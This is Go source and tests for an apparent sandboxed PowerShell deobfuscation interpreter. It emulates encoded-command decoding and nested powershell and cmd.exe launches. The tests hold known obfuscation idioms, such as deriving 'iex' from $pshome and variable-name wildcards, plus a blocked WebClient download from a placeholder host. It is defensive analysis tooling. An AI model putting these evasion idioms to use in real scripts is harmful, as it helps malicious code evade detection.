		"tmp":                    "C:\\Users\\user\\AppData\\Local\\Temp",
		"appdata":                "C:\\Users\\user\\AppData\\Roaming",
		"localappdata":           "C:\\Users\\user\\AppData\\Local",
		"homedrive":              "C:",
		"homepath":               "\\Users\\user",
		"path":                   "C:\\WINDOWS\\system32;C:\\WINDOWS;C:\\WINDOWS\\System32\\WindowsPowerShell\\v1.0\\",
		"pathext":                ".COM;.EXE;.BAT;.CMD;.VBS;.VBE;.JS;.JSE;.WSF;.WSH;.MSC",
		"processor_architecture": "AMD64",
		"psmodulepath":           "C:\\Users\\user\\Documents\\WindowsPowerShell\\Modules",
		"os":                     "Windows_NT",
	}
}

// sharedDefaultEnv is the one read-only instance of the default table.
// Every interpreter starts by aliasing it (copy-on-write, see
// Interp.setEnv): piece evaluation creates thousands of short-lived
// interpreters per script, and rebuilding a 24-entry map for each was a
// dominant allocation source.
var sharedDefaultEnv = defaultEnv()

// setEnv writes one environment entry, cloning the shared default
// table on first write so the package-wide instance stays pristine.
func (in *Interp) setEnv(key, value string) {
	if !in.envOwned {
		m := make(map[string]string, len(in.env)+1)
		for k, v := range in.env {
			m[k] = v
		}
		in.env = m
		in.envOwned = true
	}
	in.env[key] = value
}

// PSHome is the simulated $PSHOME value. Its characters are load-bearing
// for obfuscation such as $pshome[4]+$pshome[30]+'x' == "iex".
const PSHome = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0"

// automaticVariable resolves PowerShell automatic variables that are not
// user-assigned.
func (in *Interp) automaticVariable(name string) (any, bool) {
	switch name {
	case "pshome":
		return PSHome, true
	case "shellid":
		return "Microsoft.PowerShell", true
	case "home":
		return "C:\\Users\\user", true
	case "pwd":
		return "C:\\Users\\user", true
	case "pid":
		return int64(4242), true
	case "host":
		host := NewObject("System.Management.Automation.Internal.Host.InternalHost")
		host.Props["name"] = "ConsoleHost"
		host.Props["version"] = "5.1.19041.1"
		return host, true
	case "psversiontable":
		h := NewHashtable()
		h.Set("PSVersion", "5.1.19041.1")
		h.Set("PSEdition", "Desktop")
		h.Set("CLRVersion", "4.0.30319.42000")
		return h, true
	case "executioncontext":
		return NewObject("System.Management.Automation.EngineIntrinsics"), true
	case "error":
		return []any{}, true
	case "ofs":
		return " ", true
	case "verbosepreference", "debugpreference", "progresspreference":
		return "SilentlyContinue", true
	case "erroractionpreference":
		return "Continue", true
	case "psculture":
		return "en-US", true
	case "psuiculture":
		return "en-US", true
	case "matches":
		if in.lastMatches != nil {
			return in.lastMatches, true
		}
		return nil, false
	}
	return nil, false
}
