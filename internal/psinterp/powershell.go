package psinterp

import (
	"encoding/base64"
	"fmt"
	"strings"
)

// DecodeEncodedCommand decodes a -EncodedCommand argument: standard
// base64 of a UTF-16LE script.
func DecodeEncodedCommand(b64 string) (string, error) {
	s := strings.TrimSpace(b64)
	raw, err := base64.StdEncoding.DecodeString(s)
	if err != nil {
		raw, err = base64.RawStdEncoding.DecodeString(strings.TrimRight(s, "="))
		if err != nil {
			return "", fmt.Errorf("psinterp: decode -EncodedCommand: %v", err)
		}
	}
	return decodeBytes("unicode", raw), nil
}

// IsEncodedCommandParameter reports whether a parameter name selects
// -EncodedCommand under PowerShell's prefix matching, exactly as the
// paper describes: '-encodedcommand'.StartsWith($param) (§III-B4).
func IsEncodedCommandParameter(param string) bool {
	p := strings.ToLower(strings.TrimPrefix(param, "-"))
	p = strings.TrimSuffix(p, ":")
	if p == "" {
		return false
	}
	// powershell.exe's own command-line parser special-cases "-ec" as
	// EncodedCommand even though "ec" is not a prefix of the name
	// (CommandLineParameterParser matches "encodedcommand" OR "ec"),
	// and obfuscators use that spelling in the wild.
	if p == "ec" {
		return true
	}
	// -e, -en, ..., -encodedcommand; but -ep (ExecutionPolicy),
	// -ex and -exec collide and never mean EncodedCommand.
	if !strings.HasPrefix("encodedcommand", p) {
		return false
	}
	return true
}

// IsCommandParameter reports whether a parameter selects -Command.
func IsCommandParameter(param string) bool {
	p := strings.ToLower(strings.TrimPrefix(param, "-"))
	p = strings.TrimSuffix(p, ":")
	return p != "" && strings.HasPrefix("command", p)
}

// runPowerShell simulates invoking the powershell/pwsh binary: it
// records the process launch and, when nested execution is permitted,
// evaluates the -EncodedCommand/-Command payload in-process.
func (in *Interp) runPowerShell(args []commandArg, input []any) ([]any, error) {
	// The spawn is reported to the host for recording; a denial does
	// not stop in-process evaluation of the payload (the child would
	// have been another PowerShell anyway).
	_ = in.host.StartProcess("powershell", argStrings(args))
	script := ""
	var trailing []string
	for i := 0; i < len(args); i++ {
		a := args[i]
		if a.isParam {
			take := func() string {
				if a.value != nil {
					return ToString(a.value)
				}
				if i+1 < len(args) && !args[i+1].isParam {
					i++
					return ToString(args[i].value)
				}
				return ""
			}
			switch {
			case IsEncodedCommandParameter(a.param):
				enc := take()
				decoded, err := DecodeEncodedCommand(enc)
				if err != nil {
					return nil, err
				}
				script = decoded
			case IsCommandParameter(a.param):
				script = take()
			case matchesParam(a.param, "file"):
				take() // file path: not executable in the simulation
			default:
				// Window-style flags (-nop, -w hidden, -sta, -noni, -ep
				// bypass) and their values are skipped.
				if paramTakesValue(a.param) {
					take()
				}
			}
			continue
		}
		trailing = append(trailing, ToString(a.value))
	}
	if script == "" && len(trailing) > 0 {
		script = strings.Join(trailing, " ")
	}
	if script == "" && len(input) > 0 {
		script = ToString(Unwrap(input))
	}
	if script == "" {
		return nil, nil
	}
	if in.opts.IEXHook != nil {
		in.markImpure("iex hook observed code")
		in.opts.IEXHook(script)
		return nil, nil
	}
	if in.opts.EngineScriptHook != nil {
		in.markImpure("engine-script hook observed code")
		in.opts.EngineScriptHook(script)
	}
	if in.depth >= in.opts.MaxDepth {
		return nil, ErrBudget
	}
	in.depth++
	defer func() { in.depth-- }()
	return in.EvalSnippet(script)
}

// matchesParam applies PowerShell's prefix parameter matching.
func matchesParam(param, full string) bool {
	p := strings.ToLower(strings.TrimPrefix(param, "-"))
	p = strings.TrimSuffix(p, ":")
	return p != "" && strings.HasPrefix(full, p)
}

// paramTakesValue reports whether a powershell.exe flag consumes the
// following argument.
func paramTakesValue(param string) bool {
	for _, full := range []string{"windowstyle", "executionpolicy", "version", "psconsolefile", "inputformat", "outputformat"} {
		if matchesParam(param, full) {
			return true
		}
	}
	return false
}

// runCmdExe simulates cmd.exe /c ...: it records the launch and, when
// the command line re-enters powershell, evaluates that payload.
func (in *Interp) runCmdExe(args []commandArg) ([]any, error) {
	line := strings.Join(argStrings(args), " ")
	_ = in.host.StartProcess("cmd", argStrings(args))
	lower := strings.ToLower(line)
	idx := strings.Index(lower, "powershell")
	if idx < 0 {
		return nil, nil
	}
	rest := strings.TrimSpace(line[idx+len("powershell"):])
	rest = strings.TrimPrefix(rest, ".exe")
	if strings.TrimSpace(rest) == "" {
		return nil, nil
	}
	if in.depth >= in.opts.MaxDepth {
		return nil, ErrBudget
	}
	in.depth++
	defer func() { in.depth-- }()
	out, err := in.EvalSnippet("powershell " + rest)
	if err != nil {
		return nil, nil //nolint:nilerr // cmd.exe payloads are best-effort
	}
	return out, nil
}
