package psinterp

import (
	"reflect"
	"testing"
)

// evalPurity runs one snippet on a fresh interpreter with the given
// preloaded variables and returns the purity report.
func evalPurity(t *testing.T, src string, preload map[string]any) Purity {
	t.Helper()
	in := New(Options{})
	for k, v := range preload {
		in.SetVar(k, v)
	}
	if _, err := in.EvalSnippet(src); err != nil {
		t.Fatalf("eval %q: %v", src, err)
	}
	return in.Purity()
}

func TestPurityPureArithmetic(t *testing.T) {
	p := evalPurity(t, "'a' + 'b' * 3", nil)
	if !p.Pure {
		t.Errorf("string arithmetic impure: %s", p.Reason)
	}
	if len(p.ReadVars) != 0 {
		t.Errorf("no preloaded reads expected, got %v", p.ReadVars)
	}
}

func TestPurityRecordsPreloadedReads(t *testing.T) {
	p := evalPurity(t, "$zebra + $apple", map[string]any{
		"apple":  "a",
		"zebra":  "z",
		"unused": "u",
	})
	if !p.Pure {
		t.Fatalf("impure: %s", p.Reason)
	}
	// Only the variables actually read, sorted.
	if want := []string{"apple", "zebra"}; !reflect.DeepEqual(p.ReadVars, want) {
		t.Errorf("ReadVars = %v, want %v", p.ReadVars, want)
	}
}

func TestPurityScriptDefinedVarsNotRecorded(t *testing.T) {
	p := evalPurity(t, "$x = 'local'; $x + $x", nil)
	if !p.Pure {
		t.Fatalf("impure: %s", p.Reason)
	}
	if len(p.ReadVars) != 0 {
		t.Errorf("script-defined variable reads must not be recorded: %v", p.ReadVars)
	}
}

func TestPurityImpuritySources(t *testing.T) {
	cases := []struct {
		name    string
		src     string
		preload map[string]any
	}{
		{"get-random", "Get-Random -Minimum 1 -Maximum 10", nil},
		{"get-date", "Get-Date", nil},
		{"env-read", "$env:comspec", nil},
		{"env-read-static", "[Environment]::GetEnvironmentVariable('Path')", nil},
		{"env-write", "$env:xyzvar = 'v'", nil},
		{"machinename", "[Environment]::MachineName", nil},
		{"datetime-now", "[DateTime]::Now", nil},
		{"newguid", "[guid]::NewGuid()", nil},
		{"console-write", "Write-Host 'hello'", nil},
		{"nonwhitelisted-command", "Start-Sleep -s 0", nil},
		{"wildcard-get-variable", "$seed = 1; Get-Variable se*", map[string]any{"seed2": 2}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			in := New(Options{})
			for k, v := range tc.preload {
				in.SetVar(k, v)
			}
			in.EvalSnippet(tc.src) // some cases error under DenyHost; impurity must still be marked
			p := in.Purity()
			if p.Pure {
				t.Errorf("%q reported pure", tc.src)
			}
			if p.Reason == "" {
				t.Error("impure without a reason")
			}
		})
	}
}

func TestPurityLenientUndefinedReadIsImpure(t *testing.T) {
	// In non-strict mode a read of an undefined variable yields nil.
	// The absence of a variable cannot be fingerprinted, so such runs
	// must never be cached.
	in := New(Options{})
	if _, err := in.EvalSnippet("$neverdefined"); err != nil {
		t.Fatal(err)
	}
	if p := in.Purity(); p.Pure {
		t.Error("lenient undefined-variable read reported pure")
	}
}

func TestPurityFirstReasonWins(t *testing.T) {
	in := New(Options{})
	in.EvalSnippet("Get-Random; Get-Date")
	p := in.Purity()
	if p.Reason != "command: get-random" {
		t.Errorf("first impurity cause not retained: %q", p.Reason)
	}
}

func TestPurityWhitelistedBuiltinsStayPure(t *testing.T) {
	srcs := []string{
		"('a','b','c' | ForEach-Object { $_ }) -join ''",
		"Write-Output 'x'",
		"1,5,3 | Sort-Object",
		"(New-Object Net.WebClient) -ne $null",
		"Invoke-Expression '1 + 1'",
	}
	for _, src := range srcs {
		in := New(Options{})
		if _, err := in.EvalSnippet(src); err != nil {
			t.Fatalf("eval %q: %v", src, err)
		}
		if p := in.Purity(); !p.Pure {
			t.Errorf("%q impure: %s", src, p.Reason)
		}
	}
}

func TestCopyValueGate(t *testing.T) {
	// Copyable scalars and nested slices.
	orig := []any{"s", int64(3), 1.5, true, Char('x'), nil, []any{"inner"}, Bytes{1, 2}}
	cp, ok := CopyValue(orig)
	if !ok {
		t.Fatal("scalar slice refused")
	}
	cps := cp.([]any)
	cps[6].([]any)[0] = "MUTATED"
	cps[7].(Bytes)[0] = 99
	if orig[6].([]any)[0] != "inner" || orig[7].(Bytes)[0] != 1 {
		t.Error("CopyValue aliased nested data")
	}
	// Reference types are refused.
	for _, v := range []any{NewHashtable(), NewObject("X"), &ScriptBlockValue{}} {
		if _, ok := CopyValue(v); ok {
			t.Errorf("CopyValue accepted %T", v)
		}
	}
	if _, ok := CopyValue([]any{"fine", NewHashtable()}); ok {
		t.Error("CopyValue accepted a slice holding a hashtable")
	}
}

func TestValueSizeGrowsWithPayload(t *testing.T) {
	small := ValueSize("ab")
	big := ValueSize(string(make([]byte, 4096)))
	if big <= small {
		t.Errorf("size not monotonic: %d <= %d", big, small)
	}
	if n := ValueSize([]any{"abc", Bytes{1, 2, 3}}); n <= 0 {
		t.Errorf("composite size = %d", n)
	}
}
