package psinterp

import (
	"errors"
	"strings"
	"testing"
	"testing/quick"
)

// eval evaluates src with default options and returns the unwrapped
// result rendered as a string.
func eval(t *testing.T, src string) string {
	t.Helper()
	in := New(Options{})
	out, err := in.EvalSnippet(src)
	if err != nil {
		t.Fatalf("EvalSnippet(%q): %v", src, err)
	}
	return ToString(Unwrap(out))
}

func TestOperators(t *testing.T) {
	tests := []struct{ src, want string }{
		// Arithmetic.
		{"1 + 2", "3"},
		{"7 / 2", "3.5"},
		{"6 / 2", "3"},
		{"7 % 3", "1"},
		{"2 * 3.5", "7"},
		{"10 - 4", "6"},
		{"-5 + 1", "-4"},
		// String operators.
		{"'a' + 'b'", "ab"},
		{"'a' + 5", "a5"},
		{"5 + '3'", "8"},
		{"'ab' * 3", "ababab"},
		{"'a','b' + 'c'", "a b c"},
		// Comparison (case-insensitive by default).
		{"'ABC' -eq 'abc'", "True"},
		{"'ABC' -ceq 'abc'", "False"},
		{"2 -gt 1", "True"},
		{"'2' -eq 2", "True"},
		{"1 -ne 2", "True"},
		{"'b' -gt 'a'", "True"},
		// Logical.
		{"$true -and $false", "False"},
		{"$true -or $false", "True"},
		{"$true -xor $true", "False"},
		{"-not $false", "True"},
		{"!0", "True"},
		// Bitwise.
		{"6 -band 3", "2"},
		{"6 -bor 3", "7"},
		{"6 -bxor 3", "5"},
		{"'0x4B' -bxor 0", "75"},
		// A trailing hex digit d must not be taken as the decimal
		// type suffix: 0x6d is 109, not 0x6.
		{"'0x6D' -bxor 0", "109"},
		{"0x6d", "109"},
		{"0x6dl", "109"},
		{"1 -shl 4", "16"},
		{"16 -shr 2", "4"},
		{"-bnot 0", "-1"},
		// Like/match/replace/split/join.
		{"'hello' -like 'h*o'", "True"},
		{"'hello' -like 'H?LLO'", "True"},
		{"'hello' -notlike 'x*'", "True"},
		{"'hello' -match 'l+'", "True"},
		{"'hello' -replace 'l','L'", "heLLo"},
		{"'a1b2' -replace '\\d',''", "ab"},
		{"('a,b,c' -split ',') -join '-'", "a-b-c"},
		{"'x' -in 'x','y'", "True"},
		{"'x','y' -contains 'Y'", "True"},
		{"'x','y' -notcontains 'z'", "True"},
		// Range and indexing.
		{"(1..4) -join ''", "1234"},
		{"(4..1) -join ''", "4321"},
		{"'abcdef'[2]", "c"},
		{"'abcdef'[-1]", "f"},
		{"('abcdef'[1,3,5]) -join ''", "bdf"},
		{"('abc'[2..0]) -join ''", "cba"},
		{"(1,2,3)[1]", "2"},
		// Format operator.
		{"'{0}-{1}' -f 'a','b'", "a-b"},
		{"'{1}{0}' -f 'b','a'", "ab"},
		{"'{0:X2}' -f 10", "0A"},
		{"'{0:D4}' -f 42", "0042"},
		{"'{0,5}' -f 'ab'", "   ab"},
		{"'{0,-4}|' -f 'ab'", "ab  |"},
		{"'{{literal}}' -f 0", "{literal}"},
		// Type operators.
		{"'s' -is [string]", "True"},
		{"5 -is [int]", "True"},
		{"5 -isnot [string]", "True"},
		{"'5' -as [int]", "5"},
		// Unary join/split.
		{"-join ('a','b','c')", "abc"},
		{"(-split 'a  b  c') -join ','", "a,b,c"},
	}
	for _, tt := range tests {
		if got := eval(t, tt.src); got != tt.want {
			t.Errorf("eval(%q) = %q, want %q", tt.src, got, tt.want)
		}
	}
}

func TestStringMethods(t *testing.T) {
	tests := []struct{ src, want string }{
		{"'AbC'.ToUpper()", "ABC"},
		{"'AbC'.ToLower()", "abc"},
		{"'hello'.Replace('l','L')", "heLLo"},
		{"'hello'.Substring(1)", "ello"},
		{"'hello'.Substring(1,3)", "ell"},
		{"'  x  '.Trim()", "x"},
		{"'xxayyaxx'.Trim('x')", "ayya"},
		{"'hello'.StartsWith('he')", "True"},
		{"'hello'.EndsWith('lo')", "True"},
		{"'hello'.Contains('ll')", "True"},
		{"'hello'.IndexOf('l')", "2"},
		{"'hello'.LastIndexOf('l')", "3"},
		{"('a b c'.Split(' ')) -join '|'", "a|b|c"},
		{"('hello'.ToCharArray()) -join '-'", "h-e-l-l-o"},
		{"'5'.PadLeft(3,'0')", "005"},
		{"'5'.PadRight(3,'*')", "5**"},
		{"'hello'.Remove(2,2)", "heo"},
		{"'heo'.Insert(2,'ll')", "hello"},
		{"'hello'.Length", "5"},
		{"'hello'.Chars(1)", "e"},
		{"'-encodedcommand'.StartsWith('-enc')", "True"},
		{"'x'.CompareTo('x')", "0"},
		{"(6).ToString('X2')", "06"},
		{"(255).ToString()", "255"},
	}
	for _, tt := range tests {
		if got := eval(t, tt.src); got != tt.want {
			t.Errorf("eval(%q) = %q, want %q", tt.src, got, tt.want)
		}
	}
}

func TestStaticMethods(t *testing.T) {
	tests := []struct{ src, want string }{
		{"[convert]::ToInt32('ff',16)", "255"},
		{"[convert]::ToInt32('101',2)", "5"},
		{"[convert]::ToInt32('17',8)", "15"},
		{"[convert]::ToChar(65)", "A"},
		{"[convert]::ToString(255,16)", "ff"},
		{"[char]::ConvertFromUtf32(9731)", "☃"},
		{"[char]::ToUpper('a')", "A"},
		{"[string]::Join('-',('a','b'))", "a-b"},
		{"[string]::Format('{0}!', 'hi')", "hi!"},
		{"[string]::Concat('a','b','c')", "abc"},
		{"[string]::IsNullOrEmpty('')", "True"},
		{"[math]::Abs(-3)", "3"},
		{"[math]::Floor(3.9)", "3"},
		{"[math]::Pow(2,10)", "1024"},
		{"[math]::Max(3,7)", "7"},
		{"[math]::Sqrt(49)", "7"},
		{"[regex]::Replace('aaa','a+','X')", "X"},
		{"[regex]::Escape('a.b')", "a\\.b"},
		{"([regex]::Split('a1b2c','\\d')) -join ''", "abc"},
		{"[environment]::GetEnvironmentVariable('username')", "user"},
		{"[environment]::NewLine -eq \"`r`n\"", "True"},
		{"[io.path]::Combine('C:\\a','b')", "C:\\a\\b"},
		{"[int]::Parse('42')", "42"},
		{"[byte]::MaxValue", "255"},
	}
	for _, tt := range tests {
		if got := eval(t, tt.src); got != tt.want {
			t.Errorf("eval(%q) = %q, want %q", tt.src, got, tt.want)
		}
	}
}

func TestCasts(t *testing.T) {
	tests := []struct{ src, want string }{
		{"[char]65", "A"},
		{"[int]'42'", "42"},
		{"[int]3.7", "4"},
		{"[string]39", "39"},
		{"[byte]200", "200"},
		{"([char[]]'abc') -join ','", "a,b,c"},
		{"([byte[]](65,66)) -join ','", "65,66"},
		{"[bool]1", "True"},
		{"[bool]''", "False"},
		{"[double]'2.5'", "2.5"},
		{"([int[]]('1','2')) -join '+'", "1+2"},
	}
	for _, tt := range tests {
		if got := eval(t, tt.src); got != tt.want {
			t.Errorf("eval(%q) = %q, want %q", tt.src, got, tt.want)
		}
	}
	if _, err := New(Options{}).EvalSnippet("[char]'toolong'"); err == nil {
		t.Error("[char]'toolong' should fail")
	}
	if _, err := New(Options{}).EvalSnippet("[byte]300"); err == nil {
		t.Error("[byte]300 should fail")
	}
}

func TestEncodings(t *testing.T) {
	tests := []struct{ src, want string }{
		{"[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('aABpAA=='))", "hi"},
		{"[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aGk='))", "hi"},
		{"[Text.Encoding]::ASCII.GetString((104,105))", "hi"},
		{"[Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes('hi'))", "aGk="},
		{"([Text.Encoding]::Unicode.GetBytes('hi')) -join ','", "104,0,105,0"},
	}
	for _, tt := range tests {
		if got := eval(t, tt.src); got != tt.want {
			t.Errorf("eval(%q) = %q, want %q", tt.src, got, tt.want)
		}
	}
}

func TestControlFlowEval(t *testing.T) {
	tests := []struct{ src, want string }{
		{"if (1 -gt 0) { 'yes' } else { 'no' }", "yes"},
		{"if (0) { 'yes' } elseif (1) { 'elseif' } else { 'no' }", "elseif"},
		{"$s=0; foreach ($i in 1..4) { $s += $i }; $s", "10"},
		{"$i=0; while ($i -lt 3) { $i++ }; $i", "3"},
		{"$i=0; do { $i++ } until ($i -ge 2); $i", "2"},
		{"$o=''; for ($i=0; $i -lt 3; $i++) { $o += $i }; $o", "012"},
		{"switch (2) { 1 {'one'} 2 {'two'} default {'other'} }", "two"},
		{"switch ('zz') { 1 {'one'} default {'other'} }", "other"},
		{"$x = 1; $y = if ($x) { 'a' } else { 'b' }; $y", "a"},
		{"foreach ($i in 1..5) { if ($i -eq 3) { break }; $i }", "1 2"},
		{"$(foreach ($i in 1..4) { if ($i % 2) { continue }; $i }) -join ''", "24"},
		{"try { throw 'boom' } catch { 'caught' }", "caught"},
		{"try { 'ok' } finally { }", "ok"},
		{"function f($a,$b) { $a + $b }; f 2 3", "5"},
		{"function f { return 7; 9 }; f", "7"},
		{"function f { $args[1] }; f 'x' 'y'", "y"},
		{"function double($n=4) { $n * 2 }; double", "8"},
		{"function g($p) { $p }; g -p 'named'", "named"},
	}
	for _, tt := range tests {
		if got := eval(t, tt.src); got != tt.want {
			t.Errorf("eval(%q) = %q, want %q", tt.src, got, tt.want)
		}
	}
}

func TestPipelineCmdlets(t *testing.T) {
	tests := []struct{ src, want string }{
		{"(1..5 | where-object { $_ -gt 3 }) -join ','", "4,5"},
		{"(1..3 | foreach-object { $_ * 2 }) -join ','", "2,4,6"},
		{"('b','a','c' | sort-object) -join ''", "abc"},
		{"('b','a','c' | sort-object -descending) -join ''", "cba"},
		{"(1..10 | select-object -first 3) -join ','", "1,2,3"},
		{"(1..10 | select-object -last 2) -join ','", "9,10"},
		{"(1,1,2,2,3 | select-object -unique) -join ''", "123"},
		{"(1..5 | measure-object).Count", "5"},
		{"'a','b' | out-string -stream | select-object -first 1", "a"},
		{"(write-output 1 2 3) -join ','", "1,2,3"},
		{"('x' | out-null) -eq $null", "True"},
		{"( 'keep','drop' | select-string 'ke' ) -join ''", "keep"},
		{"(1,2,3 | foreach-object { $_ } | where-object { $_ -ne 2 }) -join ''", "13"},
		{"('abc' | foreach-object ToUpper)", "ABC"},
		{"('aa','bbb' | foreach-object Length) -join ','", "2,3"},
	}
	for _, tt := range tests {
		if got := eval(t, tt.src); got != tt.want {
			t.Errorf("eval(%q) = %q, want %q", tt.src, got, tt.want)
		}
	}
}

func TestVariablesAndScopes(t *testing.T) {
	tests := []struct{ src, want string }{
		{"$a = 5; $a", "5"},
		{"$a = 1; $a += 2; $a", "3"},
		{"$a = 'x'; $a *= 3; $a", "xxx"},
		{"$a,$b = 1,2; $b", "2"},
		{"$h = @{k='v'}; $h['k']", "v"},
		{"$h = @{k='v'}; $h.k", "v"},
		{"$arr = 1,2,3; $arr[1] = 9; $arr -join ''", "193"},
		{"$env:custom = 'val'; $env:custom", "val"},
		{"$global:g = 3; $g", "3"},
		{"function f { $script:v = 9 }; f; $v", "9"},
		{"$true", "True"},
		{"$null -eq $null", "True"},
		{"$pshome[4]", "i"},
	}
	for _, tt := range tests {
		if got := eval(t, tt.src); got != tt.want {
			t.Errorf("eval(%q) = %q, want %q", tt.src, got, tt.want)
		}
	}
}

func TestScriptBlocks(t *testing.T) {
	tests := []struct{ src, want string }{
		{"$sb = { 40 + 2 }; $sb.Invoke() -join ''", "42"},
		{"$sb = { $args[0] * 2 }; ($sb.Invoke(21)) -join ''", "42"},
		{"& { 'direct' }", "direct"},
		{"$sb = [scriptblock]::Create('1+1'); ($sb.Invoke()) -join ''", "2"},
		{"{ 'text' }.ToString()", " 'text' "},
		{"icm { 2 + 2 }", "4"},
	}
	for _, tt := range tests {
		if got := eval(t, tt.src); got != tt.want {
			t.Errorf("eval(%q) = %q, want %q", tt.src, got, tt.want)
		}
	}
}

func TestInvokeExpressionNesting(t *testing.T) {
	got := eval(t, `iex "iex ""'deep'"""`)
	if got != "deep" {
		t.Errorf("nested iex = %q", got)
	}
}

func TestExpandableStrings(t *testing.T) {
	tests := []struct{ src, want string }{
		{`$n='world'; "hello $n"`, "hello world"},
		{`"sum: $(1+2)"`, "sum: 3"},
		{`"env $env:username"`, "env user"},
		{"\"tick`ttab\"", "tick\ttab"},
		{"\"literal `$n\"", "literal $n"},
		{`$a=@{k=1}; "val $($a['k'])"`, "val 1"},
	}
	for _, tt := range tests {
		if got := eval(t, tt.src); got != tt.want {
			t.Errorf("eval(%q) = %q, want %q", tt.src, got, tt.want)
		}
	}
}

func TestCompressionRoundTrip(t *testing.T) {
	for _, algorithm := range []string{"deflate", "gzip"} {
		data := Bytes("some payload for " + algorithm)
		packed, err := compress(algorithm, data)
		if err != nil {
			t.Fatalf("compress(%s): %v", algorithm, err)
		}
		plain, err := decompress(algorithm, packed, 1<<20)
		if err != nil {
			t.Fatalf("decompress(%s): %v", algorithm, err)
		}
		if string(plain) != string(data) {
			t.Errorf("%s roundtrip = %q", algorithm, plain)
		}
	}
}

func TestDeflateStreamScript(t *testing.T) {
	packed, err := compress("deflate", Bytes("write-host fromstream"))
	if err != nil {
		t.Fatal(err)
	}
	b64 := eval(t, "[convert]::ToBase64String(("+joinBytes(packed)+"))")
	src := "(New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('" +
		b64 + "'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::UTF8)).ReadToEnd()"
	if got := eval(t, src); got != "write-host fromstream" {
		t.Errorf("stream decode = %q", got)
	}
}

func joinBytes(b Bytes) string {
	parts := make([]string, len(b))
	for i, v := range b {
		parts[i] = ToString(int64(v))
	}
	return strings.Join(parts, ",")
}

func TestSecureStringRoundTrip(t *testing.T) {
	key := []byte{1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16}
	enc, err := EncryptSecureString("secret script", key)
	if err != nil {
		t.Fatal(err)
	}
	plain, err := DecryptSecureString(enc, key)
	if err != nil {
		t.Fatal(err)
	}
	if plain != "secret script" {
		t.Errorf("roundtrip = %q", plain)
	}
	if _, err := DecryptSecureString(enc, []byte("wrong key 123456")); err == nil {
		t.Error("wrong key should fail")
	}
	// Full script path.
	src := "[Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR((ConvertTo-SecureString -String '" +
		enc + "' -Key (1..16))))"
	if got := eval(t, src); got != "secret script" {
		t.Errorf("script roundtrip = %q", got)
	}
}

func TestSecureStringPropertyRoundTrip(t *testing.T) {
	f := func(plain string, keySeed uint8) bool {
		key := make([]byte, 16)
		for i := range key {
			key[i] = keySeed + byte(i) + 1
		}
		enc, err := EncryptSecureString(plain, key)
		if err != nil {
			return false
		}
		got, err := DecryptSecureString(enc, key)
		return err == nil && got == plain
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 100}); err != nil {
		t.Error(err)
	}
}

func TestStrictVars(t *testing.T) {
	in := New(Options{StrictVars: true})
	_, err := in.EvalSnippet("$undefined + 1")
	var uv *UnknownVariableError
	if !errors.As(err, &uv) {
		t.Errorf("err = %v, want UnknownVariableError", err)
	}
	lenient := New(Options{})
	out, err := lenient.EvalSnippet("$undefined -eq $null")
	if err != nil || ToString(Unwrap(out)) != "True" {
		t.Errorf("lenient undefined = %v, %v", out, err)
	}
}

func TestBlocklist(t *testing.T) {
	in := New(Options{Blocklist: map[string]bool{"start-sleep": true}})
	_, err := in.EvalSnippet("Start-Sleep 5")
	if !errors.Is(err, ErrBlocked) {
		t.Errorf("err = %v, want ErrBlocked", err)
	}
	// Alias resolves to the blocked command.
	_, err = in.EvalSnippet("sleep 5")
	if !errors.Is(err, ErrBlocked) {
		t.Errorf("alias err = %v, want ErrBlocked", err)
	}
}

func TestBudget(t *testing.T) {
	in := New(Options{MaxSteps: 1000})
	_, err := in.EvalSnippet("while ($true) { $x = 1 }")
	if !errors.Is(err, ErrBudget) {
		t.Errorf("err = %v, want ErrBudget", err)
	}
	in = New(Options{})
	if _, err := in.EvalSnippet("1..999999999"); !errors.Is(err, ErrBudget) {
		t.Errorf("huge range err = %v, want ErrBudget", err)
	}
}

func TestDenyHostBlocksNetwork(t *testing.T) {
	in := New(Options{})
	_, err := in.EvalSnippet("(New-Object Net.WebClient).DownloadString('http://x.test/')")
	if !errors.Is(err, ErrSideEffect) {
		t.Errorf("err = %v, want ErrSideEffect", err)
	}
}

func TestGetVariableDiscovery(t *testing.T) {
	// The Invoke-Obfuscation trick: (GV '*mdr*').Name[3,11,2] -join ''.
	got := eval(t, "((gv '*mdr*').name[3,11,2]) -join ''")
	if !strings.EqualFold(got, "iex") {
		t.Errorf("gv trick = %q, want iex", got)
	}
}

func TestGetCommandDiscovery(t *testing.T) {
	got := eval(t, "(gcm *ke-Exp*).Name")
	if got != "Invoke-Expression" {
		t.Errorf("gcm trick = %q", got)
	}
	got = eval(t, "(gal iex).Definition")
	if got != "Invoke-Expression" {
		t.Errorf("gal = %q", got)
	}
}

func TestEncodedCommandHelpers(t *testing.T) {
	if !IsEncodedCommandParameter("-e") || !IsEncodedCommandParameter("-EnCoDedCoMmAnD") {
		t.Error("prefix matching broken")
	}
	// powershell.exe special-cases "-ec" outside prefix matching.
	if !IsEncodedCommandParameter("-ec") || !IsEncodedCommandParameter("-eC") {
		t.Error("-ec special case broken")
	}
	if IsEncodedCommandParameter("-x") || IsEncodedCommandParameter("-") {
		t.Error("false positive")
	}
	dec, err := DecodeEncodedCommand("dwByAGkAdABlAC0AaABvAHMAdAAgAGgAaQA=")
	if err != nil || dec != "write-host hi" {
		t.Errorf("decode = %q, %v", dec, err)
	}
}

func TestPowerShellNestedExecution(t *testing.T) {
	in := New(Options{})
	out, err := in.EvalSnippet("powershell -NoP -e dwByAGkAdABlAC0AbwB1AHQAcAB1AHQAIAA3ADcA")
	if err != nil {
		t.Fatal(err)
	}
	if ToString(Unwrap(out)) != "77" {
		t.Errorf("nested powershell = %v", out)
	}
}

func TestConsoleCapture(t *testing.T) {
	in := New(Options{})
	if _, err := in.EvalSnippet("write-host 'to console'"); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(in.Console(), "to console") {
		t.Errorf("console = %q", in.Console())
	}
}

// TestToStringToNumberProperties checks conversion invariants with
// random inputs.
